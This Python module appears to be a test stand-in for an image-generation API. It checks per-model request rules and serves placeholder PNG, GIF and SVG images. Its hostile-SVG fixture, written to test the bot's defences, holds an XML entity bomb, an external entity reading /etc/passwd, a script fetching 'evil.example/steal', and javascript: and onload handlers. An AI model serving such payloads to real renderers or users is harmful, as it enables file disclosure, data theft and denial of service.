"""The Images API's documented rules, per model, as the stand-in enforces them (from the document,
not from the bot), and the PNGs it answers with."""

from __future__ import annotations

import functools
import hashlib
import io
import re
import textwrap
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web
from PIL import Image, ImageDraw, ImageFont

from bot.charts import FONT_PATH

API_KEY = "sk-standin-0123456789abcdef"
GUILD_API_KEY = "sk-guild-own-key-9f8e7d6c5b4a3921"  # a guild's own key, set with /settings api-key
REFUSED_GUILD_KEY = "sk-guild-revoked-00000000ab12"  # a guild's own key the provider refuses
VAULT_SECRET = "vault-secret-of-the-test-operator-0123456789"  # security.secret_key
# December 2026: 2.5 and 2.6 take two more qualities and `complexity`; gpt-image-2 refuses a
# transparent background since 2026-09-30 (spec: openai-images.openapi.yaml, x-imagebot-source).
GPT_IMAGE_25 = {
    "gpt-image-2.5-flare",
    "gpt-image-2.5-flare-2026-09-08",
    "gpt-image-2.5-sunburst",
    "gpt-image-2.5-sunburst-2026-09-08",
    "gpt-image-2.6-flare",
    "gpt-image-2.6-sunburst",
}
# 2.6 takes `markup` on edits: notes drawn on a transparent PNG overlay the size of the first image,
# never with a mask (spec: openai-images.openapi.yaml, CreateImageEditRequest.markup).
GPT_IMAGE_26 = {"gpt-image-2.6-flare", "gpt-image-2.6-sunburst"}
# 2.6 alone makes animated GIFs and SVG drawings (spec: output_format, frame_count, frame_duration_ms).
GIF_AND_SVG = GPT_IMAGE_26
GPT_IMAGE = {
    *GPT_IMAGE_25,
    "gpt-image-2",
    "gpt-image-2-2026-04-21",
    "gpt-image-1.5",
    "gpt-image-1",
    "gpt-image-1-mini",
    "chatgpt-image-latest",
}
GPT_ONLY_FIELDS = (
    "output_format",
    "output_compression",
    "background",
    "moderation",
    "stream",
    "partial_images",
    "input_fidelity",
    "complexity",
)
PROMPT_LIMITS = {"dall-e-2": 1000, "dall-e-3": 4000}
SIZES = {
    "gpt": {"auto", "1024x1024", "1536x1024", "1024x1536"},
    "dall-e-2": {"256x256", "512x512", "1024x1024"},
    "dall-e-3": {"1024x1024", "1792x1024", "1024x1792"},
}
QUALITIES = {
    "gpt": {"low", "medium", "high", "auto"},
    "gpt-2.5": {"low", "medium", "high", "xhigh", "max", "auto"},
    "dall-e-2": {"standard", "auto"},
    "dall-e-3": {"standard", "hd", "auto"},
}


class ApiError(Exception):
    def __init__(
        self,
        status: int,
        message: str,
        *,
        code: str | None = None,
        error_type: str = "invalid_request_error",
        param: str | None = None,
        headers: dict[str, str] | None = None,
    ) -> None:
        super().__init__(message)
        self.status, self.message, self.code, self.error_type, self.param = status, message, code, error_type, param
        self.headers = headers or {}

    def response(self) -> web.Response:
        body = {"error": {"message": self.message, "type": self.error_type, "param": self.param, "code": self.code}}
        return web.json_response(body, status=self.status, headers=self.headers)


@dataclass
class ExtraModel:
    """A model of an OpenAI-compatible server: basic parameters only, answers with URLs."""

    sizes: set[str] = field(default_factory=lambda: {"1024x1024"})
    max_n: int = 1
    variations: bool = False


def family_of(model: str) -> str:
    return "gpt" if model in GPT_IMAGE else model


@functools.cache
def _font(size: int) -> ImageFont.FreeTypeFont:
    return ImageFont.truetype(str(FONT_PATH), size)


def _caption(image: Image.Image, prompt: str) -> None:
    """Write what the picture stands in for on it: a placeholder, and the prompt it was made for."""
    width, height = image.size
    size = max(8, min(width, height) // 18)
    text = "\n".join(["placeholder image for:", *textwrap.wrap(prompt, max(8, width * 3 // (size * 2)), max_lines=6)])
    draw = ImageDraw.Draw(image)
    box = draw.multiline_textbbox((width // 2, height // 2), text, font=_font(size), anchor="mm", align="center")
    pad = size // 2
    draw.rectangle((box[0] - pad, box[1] - pad, box[2] + pad, box[3] + pad), fill=(20, 20, 20))
    draw.multiline_text((width // 2, height // 2), text, font=_font(size), fill="white", anchor="mm", align="center")


def make_png(
    width: int, height: int, seed: str, *, noise: bool = False, alpha: bool = False, prompt: str | None = None
) -> bytes:
    """A real PNG, different per seed, with `prompt` written on it (a placeholder's caption);
    `noise` makes it large and incompressible."""
    digest = hashlib.sha256(seed.encode()).digest()
    if noise:
        image = Image.merge("RGB", [Image.effect_noise((width, height), 90 + channel * 10) for channel in range(3)])
    else:
        image = Image.new("RGB", (width, height), tuple(digest[:3]))
        draw = ImageDraw.Draw(image)
        for step in range(8):
            box = (step * width // 16, step * height // 16, width - step * width // 16, height - step * height // 16)
            draw.rectangle(box, outline=tuple(digest[3 + step : 6 + step]), width=max(1, width // 64))
    if prompt:
        _caption(image, prompt)
    if alpha:
        image.putalpha(Image.linear_gradient("L").resize((width, height)))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", compress_level=1)
    return buffer.getvalue()


def in_format(png: bytes, fields: dict[str, Any]) -> bytes:
    """The image as the request's `output_format` asks (GPT image models), at `output_compression`
    (the API's default, 100, when it is not given)."""
    wanted = fields.get("output_format") or "png"
    if wanted == "png":
        return png
    image = Image.open(io.BytesIO(png))
    buffer = io.BytesIO()
    image = image.convert("RGB" if wanted == "jpeg" else "RGBA")
    image.save(buffer, wanted.upper(), quality=int(fields.get("output_compression") or 100))
    return buffer.getvalue()


def dimensions_of(size: str | None) -> tuple[int, int]:
    if not size or size == "auto":
        return 1024, 1024
    width, height = size.split("x")
    return int(width), int(height)


def check_model(fields: dict[str, Any], extra_models: dict[str, ExtraModel], *, default: str, operation: str) -> str:
    """The model asked for, if the request keeps its documented rules; else the error the service gives."""
    model = fields.get("model") or default
    known = model in GPT_IMAGE or model in {"dall-e-2", "dall-e-3"}
    if model in extra_models:
        extra = extra_models[model]
        allowed = {"model", "prompt", "n", "size", "image"}
        unknown = sorted(set(fields) - allowed)
        if unknown:
            raise ApiError(400, f"Unknown parameter: '{unknown[0]}'.", param=unknown[0])
        if fields.get("size", "1024x1024") not in extra.sizes:
            raise ApiError(400, "Unsupported size.", param="size")
        if int(fields.get("n") or 1) > extra.max_n:
            raise ApiError(400, f"n must be at most {extra.max_n}.", param="n")
        return model
    if not known:
        raise ApiError(
            404, f"The model `{model}` does not exist or you do not have access to it.", code="model_not_found"
        )
    family = family_of(model)
    if operation == "variations" and model != "dall-e-2":
        raise ApiError(400, "Variations are only supported for dall-e-2.", param="model")
    if operation == "edits" and model == "dall-e-3":
        raise ApiError(400, "Edits are not supported for dall-e-3.", param="model")
    prompt = fields.get("prompt")
    if prompt is not None and len(prompt) > PROMPT_LIMITS.get(model, 32000):
        raise ApiError(400, "The prompt is too long.", param="prompt", code="string_above_max_length")
    if model == "dall-e-3" and int(fields.get("n") or 1) != 1:
        raise ApiError(400, "dall-e-3 only supports n=1.", param="n")
    if family == "gpt" and fields.get("response_format") is not None:
        raise ApiError(400, "Unknown parameter: 'response_format'.", param="response_format")
    if family != "gpt":
        for name in GPT_ONLY_FIELDS:
            if fields.get(name) is not None:
                raise ApiError(400, f"'{name}' is only supported for GPT image models.", param=name)
    if model == "gpt-image-1-mini" and fields.get("input_fidelity") is not None:
        raise ApiError(400, "input_fidelity is not supported for gpt-image-1-mini.", param="input_fidelity")
    if fields.get("style") is not None and model != "dall-e-3":
        raise ApiError(400, "'style' is only supported for dall-e-3.", param="style")
    if fields.get("complexity") is not None and model not in GPT_IMAGE_25:
        raise ApiError(400, f"Unknown parameter: 'complexity' for {model}.", param="complexity")
    if fields.get("background") == "transparent" and model.startswith("gpt-image-2") and model not in GPT_IMAGE_25:
        raise ApiError(400, f"Transparent background is not supported for {model}.", param="background")
    check_animation(model, fields)
    quality = fields.get("quality")
    qualities = QUALITIES["gpt-2.5"] if model in GPT_IMAGE_25 else QUALITIES[family]
    if quality is not None and quality not in qualities:
        raise ApiError(400, f"Invalid quality '{quality}' for {model}.", param="quality")
    size = fields.get("size")
    if size is not None and size not in SIZES[family] and not custom_size_ok(model, size):
        raise ApiError(400, f"Invalid size '{size}' for {model}.", param="size")
    return model


def check_animation(model: str, fields: dict[str, Any]) -> None:
    """GIF and SVG output as the document describes it: 2.6 only; a GIF's frames only with a GIF;
    a GIF with no streaming, no partial images and no compression (its mask is checked with the files)."""
    wanted = fields.get("output_format")
    if wanted in {"gif", "svg"} and model not in GIF_AND_SVG:
        raise ApiError(400, f"Invalid output_format '{wanted}' for {model}.", param="output_format")
    if wanted != "gif":
        for name in ("frame_count", "frame_duration_ms"):
            if fields.get(name) is not None:
                raise ApiError(400, f"'{name}' is only supported with output_format 'gif'.", param=name)
        return
    for name in ("stream", "partial_images", "output_compression"):
        if fields.get(name):
            raise ApiError(400, f"'{name}' is not supported with output_format 'gif'.", param=name)


def make_gif(width: int, height: int, seed: str, frames: int, duration: int, *, noise: bool = False) -> bytes:
    """A real animated GIF of `frames` different frames, each shown `duration` ms: a square that
    moves across a background of the seed's colour, the frame's number written beside it;
    `noise` makes every frame large and incompressible."""
    digest = hashlib.sha256(seed.encode()).digest()
    pictures = []
    for index in range(frames):
        if noise:
            frame = Image.effect_noise((width, height), 60 + index).convert("RGB")
        else:
            frame = Image.new("RGB", (width, height), tuple(digest[:3]))
        draw = ImageDraw.Draw(frame)
        side = max(4, min(width, height) // 6)
        left = (width - side) * index // max(1, frames - 1)
        draw.rectangle((left, height // 2 - side // 2, left + side, height // 2 + side // 2), fill=(250, 250, 250))
        draw.text((side // 4, side // 4), str(index + 1), fill=(0, 0, 0), font=_font(max(8, side // 2)))
        pictures.append(frame)
    buffer = io.BytesIO()
    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=duration, loop=0)
    return buffer.getvalue()


# What a hostile provider might put in an SVG: a script, event handlers, an external reference,
# a foreign object, a style that loads a file, and an entity bomb ("billion laughs") in its DOCTYPE.
HOSTILE_DOCTYPE = (
    '<!DOCTYPE svg [\n<!ENTITY lol0 "lol">\n'
    + "".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">\n' for level in range(1, 10))
    + '<!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
)
HOSTILE_PARTS = (
    '<script>fetch("https://evil.example/steal")</script>'
    '<rect x="0" y="0" width="10" height="10" onclick="alert(1)" fill="url(https://evil.example/fill.svg#p)"/>'
    '<image href="https://evil.example/tracker.png" width="10" height="10"/>'
    '<a xlink:href="javascript:alert(1)"><text x="20" y="20">&lol9;&secret;</text></a>'
    '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'
    '<style>@import url("https://evil.example/sheet.css");</style>'
)


def make_svg(width: int, height: int, seed: str, *, hostile: bool = False) -> bytes:
    """A real SVG drawing of simple shapes in the seed's colours; `hostile` adds what a hostile
    provider might (see HOSTILE_PARTS), around the same drawing."""
    digest = hashlib.sha256(seed.encode()).digest()
    colour = "#" + digest[:3].hex()
    accent = "#" + digest[3:6].hex()
    shapes = (
        f'<rect width="{width}" height="{height}" fill="{colour}"/>'
        f'<circle cx="{width // 2}" cy="{height // 2}" r="{min(width, height) // 3}" fill="{accent}"/>'
        f'<path d="M0 {height} L{width // 2} {height // 2} L{width} {height} Z" fill="#ffffff" opacity="0.5"/>'
    )
    opening = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="{width}" height="{height}" viewBox="0 0 {width} {height}"'
    )
    if not hostile:
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{opening}>{shapes}</svg>'.encode()
    hostile = f'{opening} onload="alert(1)">{shapes}{HOSTILE_PARTS}</svg>'
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{HOSTILE_DOCTYPE}{hostile}'.encode()


def custom_size_ok(model: str, size: str) -> bool:
    match = re.fullmatch(r"(\d+)x(\d+)", size)
    if not (model.startswith("gpt-image-2") or model in GPT_IMAGE_25) or not match:
        return False
    width, height = int(match.group(1)), int(match.group(2))
    return (
        width % 16 == 0
        and height % 16 == 0
        and max(width, height) <= 3840
        and min(width, height) <= 2160
        and max(width, height) / min(width, height) <= 3
    )


def check_input_image(data: bytes, model: str, what: str) -> Image.Image:
    try:
        image = Image.open(io.BytesIO(data))
        image.load()
    except Exception:
        raise ApiError(400, f"Invalid {what}: the file is not a supported image.", param=what) from None
    if model == "dall-e-2" or what in ("mask", "markup"):
        if image.format != "PNG" or len(data) >= 4 * 1024 * 1024:
            raise ApiError(400, f"Invalid {what}: must be a PNG under 4 MB.", param=what)
    elif image.format not in {"PNG", "JPEG", "WEBP"} or len(data) >= 50 * 1024 * 1024:
        raise ApiError(400, f"Invalid {what}: must be PNG, JPEG or WebP under 50 MB.", param=what)
    if model == "dall-e-2" and image.width != image.height:
        raise ApiError(400, f"Invalid {what}: must be square.", param=what)
    return image


def check_markup(files: dict[str, list[bytes]], model: str, first: Image.Image) -> None:
    """A `markup` the API takes: on 2.6 models only, never with a mask, and a PNG with an alpha
    channel the size of the first image."""
    if "markup" not in files:
        return
    if model not in GPT_IMAGE_26:
        raise ApiError(400, f"Unknown parameter: 'markup' for {model}.", param="markup")
    if "mask" in files:
        raise ApiError(400, "'markup' cannot be used together with 'mask'.", param="markup")
    for markup in files["markup"]:
        overlay = check_input_image(markup, model, "markup")
        if overlay.size != first.size or "A" not in overlay.getbands():
            raise ApiError(
                400, "Invalid markup: must be a transparent PNG the size of the first image.", param="markup"
            )
